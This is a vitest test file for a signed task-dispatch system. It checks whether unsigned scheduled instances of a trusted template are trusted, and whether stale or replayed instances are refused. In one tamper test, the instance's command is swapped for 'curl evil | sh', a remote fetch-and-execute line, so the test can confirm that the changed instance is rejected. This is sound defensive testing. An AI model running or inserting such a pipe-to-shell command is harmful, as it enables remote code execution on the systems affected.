import { describe, it, expect } from 'vitest';
import { parseBusFile, renderBusFile } from '../../schemas/bus-file.js';
import type { Handoff } from '../../schemas/handoff.js';
import { dueOfInstanceId, instanceId, renderInstance, templateOfFrom, type ScheduleTemplate } from '../../bus/model/schedule.js';
import { handoffTrust, type EnforcedTrust, type HandoffTrust } from '../../bus/trust/handoff-trust.js';
import { scheduledInstanceTrust, type TemplateFacts } from '../../bus/trust/schedule-trust.js';
import { signedMessage } from '../../bus/trust/messages.js';
import { parseKeyBlob } from '../../bus/trust/ssh-key.js';
import { renderVersion } from '../../bus/trust/change.js';
import { boundedByAge, dueTooOld } from '../../bus/trust/handoff-age.js';
import { forge, makeKey, type ForgeKey } from '../helpers/sshsig-forge.js';

/**
 * Trust by derivation for a schedule's unsigned instances (bus/trust/schedule-trust.ts): trusted exactly when the
 * instance is what its signed, trusted, still scheduled template renders for a due time its schedule produced.
 */

const alice = makeKey('ed25519');
const mallory = makeKey('ed25519');
const accepted = renderVersion({
  version: 1,
  allowedSigners: `alice ${alice.line}\n`,
  policy: { version: 1, admins: ['alice'], rules: [{ signers: ['alice'], runners: ['shell'], nodes: ['w'] }] },
}, undefined).version;
const trust: EnforcedTrust = { accepted, node: {} };
const W = { name: 'w', labels: [] };
const NOW = new Date('2026-11-21T10:17:42Z');
const DUE = new Date('2026-11-21T03:00:00Z');

function parsed(path: string, text: string): { handoff: Handoff; body: string } {
  const r = parseBusFile(path, text);
  if (!r.ok || r.kind !== 'handoff') throw new Error(`${path} does not parse: ${JSON.stringify(r)}`);
  return { handoff: r.file.data, body: r.file.body };
}

const TEMPLATE_PATH = 'handoffs/nightly.md';
const TEMPLATE_TEXT = renderBusFile('handoff', { id: 'nightly', title: 'Nightly build', to: 'w', command: 'make all', schedule: '0 3 * * *', created: '2026-11-01T00:00:00.000Z' } as Handoff, '## Task\n\nBuild everything.\n');
const TEMPLATE = parsed(TEMPLATE_PATH, TEMPLATE_TEXT);

function signed(key: ForgeKey, path: string, text: string) {
  const m = signedMessage(path, Buffer.from(text));
  return [{ path: `signatures/${path}.sig`, content: Buffer.from(forge({ key, namespace: m.namespace, message: m.message })) }];
}

function template(opts: { key?: ForgeKey | null; state?: TemplateFacts['state']; handoff?: Handoff } = {}): TemplateFacts {
  const key = opts.key === undefined ? alice : opts.key;
  const handoff = opts.handoff ?? TEMPLATE.handoff;
  const verdict: HandoffTrust = handoffTrust(TEMPLATE_PATH, Buffer.from(TEMPLATE_TEXT), key ? signed(key, TEMPLATE_PATH, TEMPLATE_TEXT) : [], handoff, trust, W, NOW);
  return { id: 'nightly', state: opts.state ?? 'scheduled', handoff, body: TEMPLATE.body, verdict };
}

function instance(due: Date, edit: (text: string) => string = (t) => t) {
  const r = renderInstance({ id: 'nightly', ...TEMPLATE }, due);
  if (!r.ok) throw new Error(r.reason);
  return { id: r.id, path: r.path, bytes: Buffer.from(edit(r.text)) };
}

const why = (t: HandoffTrust) => (t.trusted ? 'trusted' : t.reason);

describe('rendering a schedule instance', () => {
  it('renders the template without schedule, with the instance id, from and created, and a line naming the schedule', () => {
    const r = renderInstance({ id: 'nightly', ...TEMPLATE }, DUE);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.id).toBe('nightly-20261121030000');
    expect(r.path).toBe('handoffs/nightly-20261121030000.md');
    const h = parsed(r.path, r.text).handoff;
    expect(h).toMatchObject({ id: r.id, from: 'schedule:nightly', created: DUE.toISOString(), command: 'make all', to: 'w' });
    expect(h.schedule).toBeUndefined();
    expect(r.text).toContain('_Dispatched by the schedule `0 3 * * *` of task nightly for 2026-11-21T03:00:00.000Z._');
    // Deterministic: every watcher and every checking node gets the same bytes.
    expect(renderInstance({ id: 'nightly', ...TEMPLATE }, DUE)).toEqual(r);
  });

  it('gives a project instance a branch of its own, and refuses a task that has no schedule', () => {
    const project: ScheduleTemplate = { id: 'nightly', handoff: { ...TEMPLATE.handoff, repo: 'https://example.com/app.git', base: 'main' }, body: '' };
    const r = renderInstance(project, DUE);
    expect(r.ok && parsed(r.path, r.text).handoff.branch).toBe('gitbus/nightly-20261121030000');
    const { schedule: _s, ...plain } = TEMPLATE.handoff;
    expect(renderInstance({ id: 'nightly', handoff: plain, body: '' }, DUE)).toMatchObject({ ok: false, reason: 'nightly has no schedule' });
  });

  it('reads the due time back from an instance id, and the template from its from', () => {
    expect(dueOfInstanceId('nightly-20261121030000')?.toISOString()).toBe(DUE.toISOString());
    const long = 'x'.repeat(60);
    expect(dueOfInstanceId(instanceId(long, DUE))?.toISOString()).toBe(DUE.toISOString());
    expect(dueOfInstanceId('nightly')).toBeNull();
    expect(dueOfInstanceId('nightly-2026112103000')).toBeNull();
    expect(templateOfFrom('schedule:nightly')).toBe('nightly');
    expect(templateOfFrom('alice@boss')).toBeNull();
    expect(templateOfFrom(undefined)).toBeNull();
  });
});

describe('the trust verdict on an unsigned schedule instance', () => {
  it('trusts the exact instance of a trusted template for a due time its schedule produced, naming the template\'s signer', () => {
    const t = scheduledInstanceTrust(instance(DUE), 'nightly', template(), NOW);
    expect(t).toMatchObject({ trusted: true, signer: { principals: ['alice'], fingerprint: parseKeyBlob(alice.blob).fingerprint }, rule: 1, via: 'schedule nightly' });
    // An earlier due time still counts (an instance may wait in the queue while the next one is due).
    expect(scheduledInstanceTrust(instance(new Date('2026-11-05T03:00:00Z')), 'nightly', template(), NOW).trusted).toBe(true);
  });

  it('refuses an instance whose bytes were changed after it was dispatched', () => {
    const altered = instance(DUE, (text) => text.replace('command: make all', 'command: curl evil | sh'));
    expect(why(scheduledInstanceTrust(altered, 'nightly', template(), NOW))).toMatch(/^unsigned: handoffs\/nightly-20261121030000\.md has no signature, and it is not a trusted instance of schedule nightly: its bytes are not what the template renders for 2026-11-21T03:00:00\.000Z/);
    const trailing = instance(DUE, (text) => `${text}\n`);
    expect(why(scheduledInstanceTrust(trailing, 'nightly', template(), NOW))).toMatch(/its bytes are not what the template renders/);
  });

  it('refuses an instance of a template that is unsigned, signed by a key trust does not list, or untrusted for this node', () => {
    const unsigned = scheduledInstanceTrust(instance(DUE), 'nightly', template({ key: null }), NOW);
    expect(why(unsigned)).toMatch(/not a trusted instance of schedule nightly: the template is not trusted: unsigned: handoffs\/nightly\.md has no signature/);
    expect(unsigned.trusted ? '' : unsigned.fix).toContain('gitbus sign');
    expect(why(scheduledInstanceTrust(instance(DUE), 'nightly', template({ key: mallory }), NOW))).toMatch(/the template is not trusted: signed by .* does not list as a signer of handoffs/);
    const elsewhere: TemplateFacts = { ...template(), verdict: handoffTrust(TEMPLATE_PATH, Buffer.from(TEMPLATE_TEXT), signed(alice, TEMPLATE_PATH, TEMPLATE_TEXT), TEMPLATE.handoff, trust, { name: 'x', labels: [] }, NOW) };
    expect(why(scheduledInstanceTrust(instance(DUE), 'nightly', elsewhere, NOW))).toMatch(/the template is not trusted: .*may not make node x run/);
  });

  it('refuses a due time the schedule does not produce, one after now, and one before the template was created', () => {
    expect(why(scheduledInstanceTrust(instance(new Date('2026-11-21T03:30:00Z')), 'nightly', template(), NOW))).toMatch(/the schedule "0 3 \* \* \*" does not produce the due time 2026-11-21T03:30:00\.000Z/);
    expect(why(scheduledInstanceTrust(instance(new Date('2026-11-22T03:00:00Z')), 'nightly', template(), NOW))).toMatch(/its due time 2026-11-22T03:00:00\.000Z is after this node's clock/);
    expect(why(scheduledInstanceTrust(instance(new Date('2026-10-30T03:00:00Z')), 'nightly', template(), NOW))).toMatch(/its due time 2026-10-30T03:00:00\.000Z is before the template was created/);
  });

  it('refuses when the template is not in main, was cancelled, or is no schedule, and when the id is no instance id', () => {
    expect(why(scheduledInstanceTrust(instance(DUE), 'nightly', null, NOW))).toMatch(/the template nightly is not in main/);
    expect(why(scheduledInstanceTrust(instance(DUE), 'nightly', template({ state: 'cancelled' }), NOW))).toMatch(/the template nightly is cancelled, so its schedule stopped/);
    const { schedule: _s, ...plain } = TEMPLATE.handoff;
    expect(why(scheduledInstanceTrust(instance(DUE), 'nightly', template({ handoff: plain }), NOW))).toMatch(/the task nightly has no schedule/);
    const i = instance(DUE);
    expect(why(scheduledInstanceTrust({ ...i, id: 'other-20261121030000' }, 'nightly', template(), NOW))).toMatch(/its id is not nightly's instance id for a due time \(nightly-YYYYMMDDhhmmss\)/);
    expect(why(scheduledInstanceTrust(i, 'nightl', template(), NOW))).toMatch(/its id is not nightl's instance id/);
  });
});

describe('schedules under a maxHandoffAge (bus/trust/handoff-age.ts)', () => {
  // The template was created on 2026-11-01, weeks before NOW: far older than the bound.
  const bounded = renderVersion({
    version: 2,
    allowedSigners: `alice ${alice.line}\n`,
    policy: { version: 2, admins: ['alice'], rules: [{ signers: ['alice'], runners: ['shell'], nodes: ['w'] }], maxHandoffAge: '1d' },
  }, undefined).version;

  it('exempts the template, and judges an instance by its own due time, not the template\'s created', () => {
    const t = template();
    expect(boundedByAge(t.verdict, TEMPLATE_PATH, t.handoff, bounded, NOW)).toBe(t.verdict);
    const i = instance(DUE);
    const derived = scheduledInstanceTrust(i, 'nightly', t, NOW);
    expect(boundedByAge(derived, i.path, parsed(i.path, i.bytes.toString()).handoff, bounded, NOW)).toMatchObject({ trusted: true, via: 'schedule nightly' });
  });

  it('refuses a replayed old instance as stale by its due time, with the schedule named', () => {
    const old = instance(new Date('2026-11-05T03:00:00Z'));
    const derived = scheduledInstanceTrust(old, 'nightly', template(), NOW);
    expect(derived.trusted).toBe(true);
    const t = boundedByAge(derived, old.path, parsed(old.path, old.bytes.toString()).handoff, bounded, NOW);
    expect(why(t)).toBe(`stale: ${old.path} was dispatched by schedule nightly with created 2026-11-05T03:00:00.000Z (its due time), older than the trust policy's maxHandoffAge (1d, trust version 2); a replayed old handoff is refused`);
    expect(t.trusted ? '' : t.fix).toMatch(/^nothing to do: the schedule dispatches a fresh instance at its next due time/);
  });

  it('watchers do not dispatch an instance the bound would refuse (a fleet back after a long absence)', () => {
    expect(dueTooOld(bounded.policy, DUE, NOW)).toBe(false);
    expect(dueTooOld(bounded.policy, new Date('2026-11-19T03:00:00Z'), NOW)).toBe(true);
    expect(dueTooOld(accepted.policy, new Date('2020-01-01T00:00:00Z'), NOW)).toBe(false);
  });
});
